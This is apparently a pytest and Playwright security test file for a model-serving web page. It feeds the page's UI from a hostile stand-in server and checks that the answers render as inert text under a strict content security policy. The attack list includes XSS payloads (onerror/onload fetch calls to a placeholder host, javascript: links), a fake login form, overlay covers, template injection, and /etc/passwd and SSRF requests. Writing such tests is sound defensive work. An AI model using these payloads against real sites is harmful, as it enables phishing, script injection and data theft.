"""A hostile server behind the page, in a real browser: nothing leaves the host, nothing acts, nothing is covered."""

from __future__ import annotations

import http.client
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from adaptprune.engines.client import Client, data_url
from adaptprune.web.launch import page
from tests.webpage import PHONE, Says, Upstream, Visits, add, answers, ask, chromium, running

BIDI = "\u202e\u2066"
#: Stands for the address of another host.
THERE = "ELSEWHERE"
ATTACKS = {
    "pictures": f'<img src="{THERE}/i"><video src="{THERE}/v" autoplay poster="{THERE}/p"></video>'
    f'<audio src="{THERE}/a" autoplay></audio><object data="{THERE}/o"></object><embed src="{THERE}/e">'
    f'<picture><source srcset="{THERE}/s"><img srcset="{THERE}/t"></picture><link rel="stylesheet" href="{THERE}/l">',
    "markdown": f"![]({THERE}/m) [x](javascript:alert(1)) [y]({THERE}/y) <{THERE}/z>\n\n# big\n\n| a |\n|---|\n"
    f"| ![]({THERE}/n) |",
    "reference": f"![a][r]\n\n[r]: {THERE}/r\n\n```html\n<img src={THERE}/c>\n```",
    "latex": f"$$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{{THERE}/g}}$$ $\\url{{{THERE}/u}}$",
    "style": f"<style>@import url({THERE}/css); * {{ display: none !important; background: url({THERE}/b) }}</style>",
    "form": f'<form action="{THERE}/login"><input name="user"><input type="password"><button>Log in</button></form>',
    "frame": f'<iframe src="{THERE}/f"></iframe><iframe srcdoc="<img src={THERE}/d>"></iframe>',
    "svg": f'<svg onload="fetch(\'{THERE}/w\')"><image href="{THERE}/h"/><use href="{THERE}/k"/></svg>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={THERE}/q"><base href="{THERE}/">',
    "script": f"<script>location = '{THERE}/x'</script><img src=x onerror=\"fetch('{THERE}/xe')\">",
    "cover": '<div style="position:fixed;inset:0;z-index:99999;background:red">Log in</div>',
    "breakout": f"</div></div></article></div><div style=position:fixed;inset:0><img src={THERE}/bo>",
    "template": "${alert(1)} {{#with this}}{{lookup . 'constructor'}}{{/with}} `${document.title}`",
    "turned": f"{BIDI}gnp.exe \u0000\u001b[31m",
    "halves": "\ud83d and \udfff",
    "stacked": "Z" + "\u0300\u0489" * 3000,
    "unbroken": "W" * 20_000,
    "lines": "\n" * 5_000 + "end",
    "long": "All work and no play. " * 4546,
}
PIXEL = data_url(Image.new("RGB", (1, 1)))
USAGES = [
    {},
    {"prompt_tokens": "<b>1</b>", "completion_tokens": [1], "pruning": "<img>", "timing": 7},
    {"pruning": {"visual_tokens": "9", "visual_tokens_kept": {}, "method": ["<b>"], "overlay": f"{THERE}/ov"}},
    {"pruning": {"visual_tokens": 1e308, "visual_tokens_kept": -1, "overlay": "data:image/svg+xml;base64,PHN2Zz4="}},
    {"pruning": {"visual_tokens": 5, "visual_tokens_kept": 2, "overlay": PIXEL}, "timing": {"first_token_ms": "<i>"}},
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as one:
        yield one


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Upstream]:
    with running(Upstream()) as server:
        yield server


@pytest.fixture(scope="module")
def upstream(elsewhere) -> Iterator[Upstream]:
    server = Upstream()
    for place, (name, text) in enumerate(ATTACKS.items()):
        usage = USAGES[place % len(USAGES)]
        server.says[name] = Says(_there(text, elsewhere.url), piece=997, usage=_there(usage, elsewhere.url))
    markup = _there(ATTACKS["pictures"] + ATTACKS["script"] + ATTACKS["cover"], elsewhere.url)
    refusal = {"message": f"POST /v1/chat/completions: {markup}", "code": markup}
    server.says["refuse"] = Says(status=400, body={"error": refusal})
    server.says["refuse at length"] = Says(status=500, body={"error": {"message": "W" * 100_000}})
    server.models = [
        {"id": "first", "notice": markup, "pruning": {"methods": [markup[:400], 7, None], "default": {}}},
        {"id": markup[:400]},
        {"id": f"{BIDI}x"},
        {"id": 7},
        {"id": "W" * 400},
        {"id": "last", "pruning": "<b>", "notice": 7},
    ]
    with running(server):
        yield server


def _there(value, url: str):
    if isinstance(value, dict):
        return {name: _there(one, url) for name, one in value.items()}
    return value.replace(THERE, url) if isinstance(value, str) else value


@pytest.fixture(scope="module")
def url(upstream) -> Iterator[str]:
    with page(Client(upstream.url), None, port=0, hosts=("127.0.0.1", "localhost")) as address:
        yield address


@pytest.fixture
def visits(browser, url, elsewhere) -> Iterator[Visits]:
    one = Visits(browser, url)
    yield one
    assert one.close() == []
    assert elsewhere.seen == []


#: Elements that act or load, and whether anything of an answer stands outside its own block.
LIVE = """() => {
    const within = [...document.querySelectorAll('.ap-answer, .ap-error, .ap-notice p, .ap-status')];
    const elements = within.flatMap(one => [...one.querySelectorAll('*')].map(e => e.tagName));
    const acting = [...document.querySelectorAll('.ap-talk *, .ap-both *, .ap-error *, .ap-notice *')].flatMap(
        one => [...one.attributes].filter(a => /^on|^style$/.test(a.name)).map(a => one.tagName + ' ' + a.name));
    const loading = [...document.querySelectorAll('form, iframe, object, embed, video, audio, meta[http-equiv], base')]
        .filter(one => one.tagName !== 'BASE' || one.getAttribute('href') !== './').map(one => one.tagName);
    return [...elements, ...acting, ...loading];
}"""
#: Controls at whose middle another element is.
COVERED = """() => [...document.querySelectorAll(
    'button:not([tabindex="-1"]), textarea, input[role=combobox]'
)].filter(one => {
    one.scrollIntoView({block: 'center'});
    const box = one.getBoundingClientRect();
    if (!box.width || !one.checkVisibility({visibilityProperty: true})) return false;
    const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return !(top && (one.contains(top) || top.contains(one)));
}).map(one => one.outerHTML.slice(0, 120))"""


def harmless(tab: Page) -> None:
    """Nothing that was said is an element, nothing is covered, nothing is wider than the window."""
    assert tab.evaluate(LIVE) == []
    assert tab.evaluate(COVERED) == []
    assert tab.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
    assert urlsplit(tab.url).port == urlsplit(tab.evaluate("location.href")).port


@pytest.mark.parametrize("window", ["wide", "phone"])
def test_a_hostile_answer_is_text(visits, upstream, url, window):
    tab = visits.open(**(PHONE if window == "phone" else {}))
    expect(tab.get_by_label("Model", exact=True)).to_have_value("first")
    add(tab, "cloth")
    harmless(tab)
    for number, (name, text) in enumerate(ATTACKS.items(), start=1):
        ask(tab, name)
        expect(tab.locator(".ap-exchange")).to_have_count(number)
        expect(tab.locator(".ap-exchange").last.get_by_role("button", name="Ask again")).to_be_visible()  # complete
        shown = answers(tab).last.text_content()
        said = upstream.says[name].text
        assert len(shown) >= len(said) - 8  # less what is invisible
        if text.isascii():
            assert shown == said
        assert not set(shown) & set("\u202e\u2066\x00\x1b\ud83d\udfff")
        harmless(tab)
    ask(tab, "pictures")  # the whole of it once more, as history of a new question
    expect(tab.locator(".ap-exchange")).to_have_count(len(ATTACKS) + 1)
    assert tab.url == f"{url}/"


def test_a_hostile_refusal_and_hostile_names_are_text(visits):
    tab = visits.open()
    for question in ("refuse", "refuse at length"):
        ask(tab, question)
        banner = tab.locator("#banner [role=alert]")
        expect(banner).to_contain_text("<img src" if question == "refuse" else "WWWW")
        assert len(banner.text_content()) <= 400
        assert "/v1" not in banner.text_content()
        expect(tab.locator("#question textarea")).to_have_value(question)  # it came back
        harmless(tab)
    for label in ("Model", "Method"):
        tab.get_by_label(label, exact=True).click()
        options = tab.get_by_role("option")
        expect(options.first).to_be_visible()
        assert all(len(option) <= 90 for option in options.all_text_contents())
        harmless_list = tab.evaluate("[...document.querySelectorAll('[role=option] *')].map(e => e.tagName)")
        assert set(harmless_list) <= {"SPAN"}
        tab.locator("#head h1").click()
        expect(options).to_have_count(0)  # the list has closed
    harmless(tab)


def test_a_hostile_comparison(visits, upstream):
    tab = visits.open()
    tab.get_by_role("tab", name="Compare").click()
    for name in ("pictures", "breakout", "cover", "unbroken"):
        ask(tab, name, "#compare-question")
        for side in ("left", "right"):
            expect(tab.locator(f"#answers .ap-{side} .ap-answer")).to_have_text(upstream.says[name].text)
        harmless(tab)


def responses(url: str) -> Iterator[tuple[str, http.client.HTTPResponse]]:
    """One of every kind that the page gives: HTML, configuration, assets, files, streams, redirections, errors."""
    parts = urlsplit(url)
    coded, foreign = {"accept-encoding": "br, gzip"}, {"origin": "http://elsewhere.test"}
    asked = [
        ("GET", "/", {}), ("HEAD", "/", {}), ("GET", "/?__theme=dark", {}), ("GET", "/config", {}),
        ("GET", "/theme.css", {}), ("GET", "/", coded), ("GET", "/config", coded), ("GET", "/gradio_api/info", {}),
        ("GET", "/gradio_api/startup-events", {}), ("GET", "/robots.txt", {}), ("GET", "/favicon.ico", {}),
        ("GET", "/static/js/iframeResizer.contentWindow.min.js", {}), ("GET", "/manifest.json", {}),
        ("GET", "/gradio_api/file=/etc/passwd", {}), ("GET", "/gradio_api/file=http://127.0.0.1:1/x", {}),
        ("GET", "/no/such/thing", {}), ("GET", "/gradio_api/queue/data?session_hash=x", {}), ("DELETE", "/", {}),
        ("POST", "/gradio_api/queue/join", {}), ("POST", "/gradio_api/upload", {}), ("POST", "/login", {}),
        ("GET", "/logout", {}), ("GET", "/", {"host": "elsewhere.test"}), ("GET", "/gradio_api/queue/status", {}),
        ("OPTIONS", "/config", {**foreign, "access-control-request-method": "POST"}), ("GET", "/config", foreign),
    ]  # fmt: skip
    for method, path, headers in asked:
        connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
        connection.request(method, path, headers=headers)
        yield f"{method} {path} {headers}", connection.getresponse()
        connection.close()


def test_every_response_says_what_the_browser_may_do(url):
    statuses = set()
    for name, answer in responses(url):
        policies = answer.headers.get_all("content-security-policy") or []
        assert len(policies) == 1, name
        rules = dict(rule.split(None, 1) for rule in policies[0].split("; "))
        for rule in ("default-src", "connect-src", "form-action", "base-uri", "frame-ancestors"):
            assert rules[rule] == "'self'", name
        assert rules["img-src"] == "'self' data: blob:"
        assert rules["object-src"] == "'none'"
        script = rules["script-src"].split()
        assert script[:2] == ["'self'", "'unsafe-eval'"], name
        assert all(one.startswith("'sha256-") for one in script[2:])  # no inline script but those of the page itself
        assert "http:" not in policies[0]
        assert "https:" not in policies[0]
        assert "*" not in policies[0]
        assert answer.headers["x-content-type-options"] == "nosniff", name
        statuses.add(answer.status)
    assert {200, 400, 403, 404, 405, 422} <= statuses


def test_the_page_fetches_nothing_for_anybody(url, elsewhere):
    """Gradio would: an address of a public host came back from the page's own origin, as whatever it says it is."""
    parts = urlsplit(url)
    for there in (
        elsewhere.url,
        "https://example.test/x.png",
        "HTTPS://example.test",
        "http:%2F%2Fexample.test",
        "%20http://x",
    ):
        for before in ("/gradio_api/file=", "/file=", "/gradio_api/proxy="):
            connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
            connection.request("GET", before + there)
            answer = connection.getresponse()
            assert (answer.status, answer.read()) == (403, b"this page fetches nothing from other hosts.")
            connection.close()


def test_a_script_put_into_the_page_does_not_run(visits):
    """Were anything to get through, the policy would still stop it."""
    tab = visits.open()
    tab.evaluate(
        """() => {
            window.ran = [];
            const box = document.querySelector('#chat');
            box.innerHTML += '<img src=x onerror="ran.push(1)"><a id=trap href="javascript:ran.push(2)">x</a>';
            const script = document.createElement('script');
            script.textContent = 'ran.push(3)';
            document.body.append(script);
            document.querySelector('#trap').click();
        }"""
    )
    tab.wait_for_timeout(500)
    assert tab.evaluate("ran") == []
    broken = [one for one in visits.problems if "Content Security Policy" in one]
    assert len(broken) >= 3
    visits.problems[:] = [one for one in visits.problems if one not in broken and not one.endswith("/x")]


def test_the_policy_stops_what_would_leave_the_host(visits, elsewhere):
    tab = visits.open()
    tab.evaluate(
        """there => {
            const form = `<form action="${there}/f" method="post"></form>`;
            document.querySelector('#chat').innerHTML += `<img src="${there}/i">${form}`;
            document.querySelector('#chat form').submit();
            fetch(`${there}/g`).catch(() => 0);
        }""",
        elsewhere.url,
    )
    tab.wait_for_timeout(500)
    assert elsewhere.seen == []
    visits.problems.clear()
